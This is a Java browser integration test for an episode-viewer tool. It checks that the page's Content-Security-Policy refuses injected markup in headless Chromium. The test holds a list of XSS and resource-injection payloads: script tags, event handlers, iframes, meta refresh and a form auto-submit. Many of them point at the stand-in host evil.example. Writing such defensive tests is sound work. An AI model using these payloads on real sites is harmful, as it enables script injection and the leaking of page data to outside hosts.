package dev.episodes.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.episodes.browser.HeadlessChromium;
import dev.episodes.browser.PageVisit;
import dev.episodes.inspect.EpisodeRow;
import dev.episodes.inspect.StepRow;
import dev.episodes.testing.Await;
import dev.episodes.view.EpisodeHtml;
import dev.episodes.view.EpisodePage;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Red team: the Content-Security-Policy as the second wall. docs/view.md: "Should an escape ever fail, an
 * injected script, event handler, frame or fetch is still refused by the browser." Each case splices
 * markup into a real episode page's body, as a failed escape would, loads it in Chromium and waits 2 s:
 * no injected script may run and no request may leave the file (a navigation counts: it fetches).
 */
class CspSecondWallBrowserITCase {
    static final String EVIL = "https://evil.example/";
    static final long T0 = 1_764_403_200_000_000L;

    @TempDir
    static Path dir;
    static HeadlessChromium browser;
    static String page;

    @BeforeAll
    static void start() throws Exception {
        StepRow s = new StepRow(0, T0, T0, "click", 10, 10, null, null, null, null, null, null, "Chrome", "t",
                "https://x/", "button", "OK", null, 100, 100, List.of(), null);
        EpisodeRow e = new EpisodeRow("csp", "u", "d", T0, T0, 1, List.of("Chrome"), 0, "steps/x.parquet", null);
        page = EpisodeHtml.render(new EpisodePage("dt=2025-11-29", e, List.of(s), List.of(), Map.of()));
        browser = HeadlessChromium.start(dir.resolve("chromium"));
        PageVisit.enable(browser.page());
    }

    @AfterAll
    static void stop() {
        if (browser != null) {
            browser.close();
        }
    }

    /** Requests other than the file and data: URIs that the policy did not refuse. */
    static List<String> notBlocked(String self) {
        java.util.Set<String> refused = new java.util.HashSet<>();
        Map<String, String> failed = new java.util.HashMap<>();
        browser.page().events("Network.loadingFailed").forEach(e -> {
            String id = e.path("params").path("requestId").asText();
            if (!e.path("params").path("blockedReason").asText().isEmpty()) { // csp, or origin (an external <use>)
                refused.add(id);
            }
            failed.put(id, e.path("params").path("errorText").asText() + " "
                    + e.path("params").path("blockedReason").asText());
        });
        List<String> out = new java.util.ArrayList<>();
        browser.page().events("Network.requestWillBeSent").forEach(e -> {
            String url = e.path("params").path("request").path("url").asText();
            String id = e.path("params").path("requestId").asText();
            if (!url.startsWith("data:") && !url.equals(self) && !refused.contains(id)) {
                out.add(url + " (" + e.path("params").path("type").asText() + "; " + failed.getOrDefault(id, "not failed")
                        + ")");
            }
        });
        return out;
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>window.__pwned=1</script>",
        "<img src=x onerror=\"window.__pwned=2\">",
        "<img src=\"" + EVIL + "a.png\"><img srcset=\"" + EVIL + "b.png 1x\">",
        "<style>@import url(" + EVIL + "c.css);</style><div style=\"background:url(" + EVIL + "d.png)\">x</div>",
        "<svg><image href=\"" + EVIL + "e.png\"/><use href=\"" + EVIL + "f.svg#a\"/></svg>",
        "<iframe src=\"" + EVIL + "\"></iframe><iframe srcdoc=\"<script>parent.__pwned=3</script>\"></iframe>",
        "<object data=\"" + EVIL + "o\"></object><embed src=\"" + EVIL + "m\">",
        "<link rel=stylesheet href=\"" + EVIL + "s.css\"><link rel=prefetch href=\"" + EVIL + "p\">",
        "<link rel=preload as=image href=\"" + EVIL + "pl.png\"><link rel=icon href=\"" + EVIL + "i.ico\">",
        "<video poster=\"" + EVIL + "v.png\" src=\"" + EVIL + "v.mp4\"></video><input type=image src=\"" + EVIL
                + "in.png\">",
        "<base href=\"" + EVIL + "\"><img src=\"relative.png\">",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='" + EVIL
                + "n.png'/></svg>\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=" + EVIL + "r\">",
        "<form action=\"" + EVIL + "f\" id=f><input name=q value=1></form><svg><set href=#f attributeName=action "
                + "to=x /></svg><img src=data:, onload=\"document.getElementById('f').submit()\">",
    })
    void anInjectionThatGotPastTheEscapeIsStillRefused(String injection) throws Exception {
        String html = page.replaceFirst("<body>\n", java.util.regex.Matcher.quoteReplacement("<body>\n" + injection));
        assertTrue(html.contains(injection));
        Path file = dir.resolve("csp-" + Integer.toHexString(injection.hashCode()) + ".html");
        Files.writeString(file, html, StandardCharsets.UTF_8);
        PageVisit v = PageVisit.open(browser.page(), file);
        try {
            Await.until("a request leaving the file", Duration.ofSeconds(2), () -> !notBlocked(v.url().toString()).isEmpty());
        } catch (AssertionError none) {
            // none in 2 s: as it should be
        }
        // DevTools reports a request the browser refused too (then loadingFailed with a blockedReason, "csp"):
        // only the others left the page. A meta refresh is a navigation, which no CSP directive here governs
        assertEquals(List.of(), notBlocked(v.url().toString()), "requests despite the policy for " + injection);
        assertEquals("undefined", v.eval("typeof window.__pwned").asText(), "script ran despite the policy");
    }
}
